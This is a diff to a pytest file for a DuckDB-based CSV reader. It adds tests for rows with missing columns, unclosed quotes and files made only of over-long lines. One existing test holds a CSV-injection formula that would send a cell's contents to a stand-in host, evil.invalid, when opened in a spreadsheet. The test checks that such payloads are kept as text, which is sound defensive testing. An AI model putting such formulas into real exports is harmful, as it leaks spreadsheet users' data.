@@ -86,6 +86,52 @@ def test_rows_that_do_not_parse_are_counted_and_sampled(tmp_path: Path) -> None:
     assert [r[0] for r in lines.fetchall()] == [2, 5]
 
 
+def test_a_line_missing_several_columns_is_one_rejected_row(tmp_path: Path) -> None:
+    # DuckDB records one error per missing column; the line is still one row (it was
+    # counted once per missing column: 4 times here).
+    head = "nom;prenom;courriel;date_naiss;tel;ville"
+    good = [f"Nom{i};Pre{i};p{i}@example.org;01/02/1990;0612345678;Lyon" for i in range(40)]
+    path = tmp_path / "one_bad.csv"
+    path.write_text("\n".join([head, *good[:20], "bad;line", *good[20:]]) + "\n")
+    reader, got = _read(tmp_path, path)
+    assert len(got) == 40
+    assert reader.rejected.count == 1
+    assert [(s["line"], s["reason"]) for s in reader.rejected.samples] == [(22, "missing columns")]
+    lines = reader.con.execute(f"SELECT _line FROM {reader.sources[0].table} ORDER BY 1")
+    assert [r[0] for r in lines.fetchall()] == [*range(2, 22), *range(23, 43)]
+
+
+def test_a_quote_never_closed_does_not_lose_the_rest_of_the_file_silently(
+    tmp_path: Path,
+) -> None:
+    # DuckDB's reader takes the rest of the file into the open quote and does not
+    # resume: the lines after it were lost without a count.
+    head = "nom;prenom;courriel"
+    good = [f"Nom{i};Pre{i};p{i}@example.org" for i in range(10)]
+    path = tmp_path / "quote.csv"
+    path.write_text("\n".join([head, *good[:4], 'x;"never closed;z', *good[4:]]) + "\n")
+    reader, got = _read(tmp_path, path)
+    assert got == [g.split(";") for g in good[:4]]
+    # Every line is a row read or a row rejected: 4 + 1 + the 6 after the quote.
+    assert len(got) + reader.rejected.count == 11
+    assert [s["line"] for s in reader.rejected.samples] == [6, 6]
+    assert "the 6 lines after it were not read" in reader.rejected.samples[1]["reason"]
+
+
+def test_rows_read_past_a_bad_quote_are_not_counted_as_lost(tmp_path: Path) -> None:
+    path = tmp_path / "ok.csv"
+    path.write_text('nom;prenom\n"a";"b"c"\nDupont;Jean\n"Martin";"L\nea"\n')
+    reader, got = _read(tmp_path, path)
+    assert got == [["Dupont", "Jean"], ["Martin", "L\nea"]]
+    assert reader.rejected.count == 1
+    # A bad last line followed by blank lines: nothing was lost after it.
+    path = tmp_path / "blank.csv"
+    path.write_text("nom;prenom;x\n1;2;3\nbad\n\n\n")
+    reader, got = _read(tmp_path, path)
+    assert got == [["1", "2", "3"]]
+    assert reader.rejected.count == 1
+
+
 def test_headerless_csv_is_typed_by_position(tmp_path: Path) -> None:
     path = tmp_path / "nohead.csv"
     path.write_text(_csv(ROWS, ";"), encoding="utf-8")
@@ -220,24 +266,28 @@ def test_giant_line_is_rejected_with_bounded_memory(
     assert len(reader.rejected.samples[0]["excerpt"]) <= sources.EXCERPT_CHARS
 
 
+@pytest.mark.parametrize("lines", [1, 3])
+def test_a_file_of_nothing_but_giant_lines_stops_with_a_clear_message(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, lines: int
+) -> None:
+    # A single 2 GB line, in small: no line fits, nothing is kept, the message says why.
+    monkeypatch.setattr(sources, "CHUNK_BYTES", 4096)
+    path = tmp_path / "one_line.csv"
+    path.write_text("\n".join(["Dupont;Jean;" * 5_000] * lines), encoding="utf-8")
+    reader = Reader(duckdb.connect(), tmp_path, max_line=10_000)
+    said = "its only line is" if lines == 1 else f"all its {lines} lines are"
+    with pytest.raises(InvalidInput, match=f"one_line.csv: {said} longer than 10000 characters"):
+        reader.read(path)
+    assert reader.rejected.count == lines
+    assert not list(tmp_path.glob("work*.csv"))  # the working copy is gone
+
+
 def test_csv_injection_payloads_are_kept_as_text(tmp_path: Path) -> None:
     payload = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'
     path = tmp_path / "inj.csv"
     path.write_text(_csv([["nom", "prenom"], [payload, "@SUM(1+1)"]], ";"), encoding="utf-8")
     _reader, got = _read(tmp_path, path)
     assert got == [[payload, "@SUM(1+1)"]]
-
-
-def test_a_file_that_is_one_giant_line_is_refused_clearly(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.setattr(sources, "CHUNK_BYTES", 4096)
-    path = tmp_path / "oneline.csv"
-    path.write_text("a;" * 60_000, encoding="utf-8")
-    reader = Reader(duckdb.connect(), tmp_path, max_line=10_000)
-    with pytest.raises(InvalidInput, match="no columns found"):
-        reader.read(path)
-    assert reader.rejected.count == 1
 
 
 @settings(max_examples=200, deadline=None)
